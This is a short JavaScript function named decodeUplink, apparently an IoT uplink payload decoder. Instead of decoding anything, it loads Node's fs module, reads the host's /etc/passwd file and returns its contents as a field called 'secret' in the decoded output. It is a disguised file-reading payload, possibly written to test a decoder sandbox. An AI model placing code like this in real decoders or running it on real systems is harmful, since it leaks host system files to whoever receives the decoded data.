function decodeUplink(input) {
  var fs = require('fs');
  return { data: { secret: fs.readFileSync('/etc/passwd', 'utf8') } };
}
